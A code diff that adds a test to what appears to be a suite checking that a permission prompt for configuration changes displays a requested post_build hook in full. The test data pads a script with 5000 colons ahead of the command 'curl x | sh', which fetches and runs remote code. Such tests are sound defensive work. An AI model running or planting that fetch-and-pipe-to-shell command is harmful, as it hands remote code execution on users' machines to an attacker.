@@ -340,6 +340,13 @@ def test_what_is_looser_than_before_is_asked_and_what_is_not_passes(
         assert line.replace("HOME", str(host.home)) in str(demand)
 
 
+def test_what_is_asked_is_shown_whole(asks: Asks) -> None:
+    script = f"{':' * 5000}; curl x | sh"
+    asked = asks(f"hooks: {{post_build: '{script}'}}")
+    (new,) = difference(asked, asks(""))
+    assert str(new).endswith(script)
+
+
 def test_what_a_user_adds_for_a_start_is_not_asked(asks: Asks, host: Host) -> None:
     alone = asks("")
     assert asks("", mounts=[f"{host.home}/elsewhere:/data"], memory_mb=7000) == alone
